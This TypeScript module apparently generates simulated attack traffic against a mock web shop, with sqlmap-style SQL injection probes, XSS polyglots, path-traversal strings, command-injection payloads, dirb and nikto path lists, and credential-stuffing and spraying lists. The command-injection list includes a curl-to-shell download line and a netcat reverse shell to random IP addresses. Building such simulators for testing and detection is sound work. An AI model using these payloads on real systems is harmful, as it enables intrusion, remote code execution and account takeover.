/**
 * Built-in attack strings, as the tools that send them do: sqlmap's boolean, error, time and UNION probes (with its
 * random constants), XSS polyglots, traversal sequences in their encodings, commix's separators, dirb's common.txt and
 * nikto's checks, breached credential lists for stuffing and a few seasonal passwords for spraying. A scenario's
 * `payloads` file replaces them.
 */
import type { Random } from '../shop/random.ts';
import { COMMON_PASSWORDS, type Account } from '../shop/state.ts';

/** sqlmap-style payloads for an original value `v`, with fresh random constants as sqlmap draws them. */
export function sqlmapPayloads(v: string, rng: Random): string[] {
  const n = () => rng.int(1000, 9999);
  const w = () => rng.token(4).toLowerCase().replace(/[0-9]/g, 'q');
  const [a, b, c] = [n(), n(), n()];
  const tag = `0x71${rng.hex(4)}71`;
  const word = w();
  const unions = Array.from({ length: 6 }, (_, i) => `${v} UNION ALL SELECT ${Array.from({ length: i + 1 }, () => 'NULL').join(',')}-- -`);
  return [
    `${v}"${rng.pick(['(', ')', ','])}.${rng.pick(['\'', '"'])}(${rng.pick([')', '(', '.'])}`,
    `${v}'${rng.pick(['"', ')', '('])}${word}`,
    `${v} AND ${a}=${a}`,
    `${v} AND ${a}=${b}`,
    `${v}' AND '${word}'='${word}`,
    `${v}' AND '${word}'='${w()}`,
    `${v}) AND ${a}=${a} AND (${c}=${c}`,
    `${v}' OR NOT ${a}=${a}-- ${word}`,
    `${v} AND EXTRACTVALUE(${a},CONCAT(0x5c,${tag},(SELECT (ELT(${a}=${a},1))),0x71706a7071))`,
    `${v} AND (SELECT ${b} FROM(SELECT COUNT(*),CONCAT(${tag},(SELECT (ELT(${b}=${b},1))),0x71706a7071,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)`,
    `${v} AND ${a}=CAST((CHR(113)||CHR(118)||CHR(112)||CHR(98)||CHR(113))||(SELECT (CASE WHEN (${a}=${a}) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(112)||CHR(106)||CHR(112)||CHR(113)) AS NUMERIC)`,
    `${v} AND (SELECT ${c} FROM (SELECT(SLEEP(5)))${word})`,
    `${v}' AND (SELECT ${c} FROM (SELECT(SLEEP(5)))${word})-- ${w()}`,
    `${v} AND ${b}=(SELECT ${b} FROM PG_SLEEP(5))`,
    `${v};SELECT PG_SLEEP(5)--`,
    `${v}' WAITFOR DELAY '0:0:5'--`,
    ...unions,
    `${v}' UNION ALL SELECT NULL,CONCAT(${tag},0x${rng.hex(10)},0x71706a7071),NULL-- -`,
    `-${a} OR ${b}=${b}#`,
  ];
}

export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(document.domain)</script>',
  '\'"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><svg/onload=confirm(1)>',
  '<img src=x onerror=prompt(document.cookie)>',
  'javascript:alert(1)',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '"-alert(1)-"',
  '\'-alert(1)-\'',
  '</script><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '<input autofocus onfocus=alert(1)>',
];

export const TRAVERSAL_PAYLOADS: readonly string[] = [
  '../../../../../../etc/passwd',
  '../../../../../../../../etc/passwd%00',
  '..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252f..%252f..%252fetc%252fpasswd',
  '....//....//....//....//etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '..%5c..%5c..%5c..%5cwindows%5cwin.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  '..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd',
  '../../../../../../proc/self/environ',
  '../../../../../../var/log/nginx/access.log',
  '..;/..;/..;/..;/etc/shadow',
  '%2e%2e/%2e%2e/%2e%2e/%2e%2e/app/.env',
  '../../../../../../usr/src/app/package.json',
];

export function commandInjectionPayloads(v: string, rng: Random): string[] {
  const marker = rng.token(6).toUpperCase().replace(/[0-9]/g, 'X');
  const [a, b] = [rng.int(10, 99), rng.int(10, 99)];
  return [
    `${v};id`,
    `${v}|id`,
    `${v}||id`,
    `${v}&&id`,
    `${v}$(id)`,
    `${v}\`id\``,
    `${v}%0aid`,
    `${v};cat /etc/passwd`,
    `${v}|cat /etc/passwd`,
    `${v};uname -a`,
    `${v}|whoami`,
    `${v};sleep 5`,
    `${v}$(sleep 5)`,
    `${v};echo ${marker}$((${a}+${b}))$(echo ${marker})${marker}`,
    `${v}|echo ${marker}$((${a}+${b}))$(echo ${marker})${marker}`,
    `${v}%3Bcurl%20http%3A%2F%2F${rng.int(11, 223)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}%2Fx.sh%7Csh`,
    `${v};nc -e /bin/sh ${rng.int(11, 223)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)} 4444`,
    `${v}&ping -c 3 127.0.0.1&`,
  ];
}

/** dirb's common.txt, the part that matters on a web shop. */
export const DIRB_COMMON: readonly string[] = [
  '.bash_history', '.bashrc', '.cvs', '.DS_Store', '.env', '.git/HEAD', '.git/config', '.gitignore', '.hg', '.htaccess', '.htpasswd',
  '.listing', '.mysql_history', '.passwd', '.ssh', '.svn', '.svn/entries', '.swf', '.web', '_admin', '_backup', '_vti_bin', '~admin',
  '~root', 'admin', 'admin.cgi', 'admin.php', 'admin_area', 'administrator', 'adminer.php', 'api/v1', 'app', 'archive', 'assets',
  'auth', 'awstats', 'backup', 'backup.sql', 'backups', 'bin', 'cgi-bin/', 'composer.json', 'config', 'config.php', 'config.json',
  'console', 'cpanel', 'crossdomain.xml', 'dashboard', 'data', 'database', 'db', 'db.sql', 'debug', 'default', 'demo', 'dev',
  'docker-compose.yml', 'download', 'dump.sql', 'env', 'error_log', 'export', 'files', 'ftp', 'graphql', 'home', 'images', 'include',
  'index.bak', 'info.php', 'install', 'jenkins', 'js', 'lib', 'log', 'logs', 'manager', 'manager/html', 'mysql', 'old', 'panel',
  'phpinfo.php', 'phpmyadmin', 'phpMyAdmin', 'portal', 'private', 'server-status', 'server-info', 'setup', 'shell', 'sql', 'staging',
  'static', 'stats', 'swagger', 'swagger-ui.html', 'system', 'temp', 'test', 'tmp', 'upload', 'uploads', 'user', 'users', 'vendor',
  'web.config', 'WEB-INF/web.xml', 'webadmin', 'wp-admin', 'wp-content', 'wp-login.php', 'xmlrpc.php', 'actuator', 'actuator/env',
  'actuator/health', 'api/swagger.json', 'v2/api-docs', '.well-known/security.txt', 'sitemap.xml', 'robots.txt',
];

/** nikto's checks: paths (some with query strings) and the methods it tries. */
export const NIKTO_CHECKS: ReadonlyArray<readonly [method: string, path: string]> = [
  ['GET', '/'], ['OPTIONS', '/'], ['GET', '/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000'], ['GET', '/?=PHPE9568F36-D428-11d2-A769-00AA001ACF42'],
  ['GET', '/icons/README'], ['GET', '/server-status'], ['GET', '/phpinfo.php'], ['GET', '/admin/'], ['GET', '/.git/config'],
  ['GET', '/#wp-config.php#'], ['GET', '/wp-config.php~'], ['GET', '/config.inc.php'], ['GET', '/examples/servlets/index.html'],
  ['GET', '/manager/html'], ['GET', '/jmx-console/'], ['GET', '/cgi-bin/test-cgi'], ['GET', '/cgi-bin/printenv'],
  ['GET', '/index.php?page=../../../../../../../../etc/passwd'], ['GET', '/shell.php'], ['GET', '/cmd.php'], ['HEAD', '/backup.tar.gz'],
  ['HEAD', '/site.zip'], ['HEAD', '/www.tar'], ['GET', '/.htpasswd'], ['GET', '/.env'], ['GET', '/WEB-INF/web.xml'], ['GET', '/crossdomain.xml'],
  ['GET', '/clientaccesspolicy.xml'], ['GET', '/login.php'], ['GET', '/admin.php'], ['GET', '/README'], ['GET', '/CHANGELOG.txt'],
  ['GET', '/test.php'], ['GET', '/info.php'], ['GET', '/phpmyadmin/'], ['GET', '/pma/'], ['GET', '/dbadmin/'], ['GET', '/_vti_bin/shtml.exe'],
  ['GET', '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir'], ['GET', '/.svn/entries'], ['GET', '/.DS_Store'], ['GET', '/server-info'],
  ['TRACE', '/'], ['PROPFIND', '/'], ['GET', '/localstart.asp'], ['GET', '/cgi-bin/php5?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'],
  ['GET', '/solr/admin/'], ['GET', '/axis2/axis2-admin/'], ['GET', '/HNAP1/'], ['GET', '/.well-known/security.txt'],
];

/** A stuffing list: breached user:password pairs, most for people who never shopped here, a few reused by customers. */
export function stuffingList(rng: Random, accounts: readonly Account[], size = 1500): string[] {
  const names = ['john', 'mike', 'anna', 'kate', 'alex', 'sam', 'chris', 'lisa', 'mark', 'paul', 'emma', 'nina', 'tom', 'eva', 'dan', 'zoe'];
  const out: string[] = [];
  for (let i = 0; i < size; i++) {
    const roll = rng.float();
    const account = rng.pick(accounts);
    if (roll < 0.015 && COMMON_PASSWORDS.includes(account.password)) out.push(`${account.username}:${account.password}`);
    else if (roll < 0.1) out.push(`${account.username}:${rng.pick(COMMON_PASSWORDS)}${rng.chance(0.5) ? rng.int(1, 99) : ''}`);
    else {
      const user = rng.chance(0.5) ? `${rng.pick(names)}${rng.int(1, 9999)}` : `${rng.pick(names)}.${rng.token(5).toLowerCase()}`;
      out.push(`${user}:${rng.chance(0.6) ? rng.pick(COMMON_PASSWORDS) : rng.token(rng.int(6, 12))}`);
    }
  }
  return out;
}

/** A spraying list: a few seasonal passwords, each tried once against many harvested user names. */
export function sprayingList(rng: Random, accounts: readonly Account[]): string[] {
  const passwords = ['Summer2024!', 'Winter2024!', 'Welcome1', 'Password1'];
  const users = ['admin', 'administrator', 'test', 'support', 'info', 'sales', 'demo', 'user', ...Array.from({ length: 120 }, () => rng.pick(accounts).username)];
  return passwords.flatMap((p) => [...new Set(users)].map((u) => `${u}:${p}`));
}
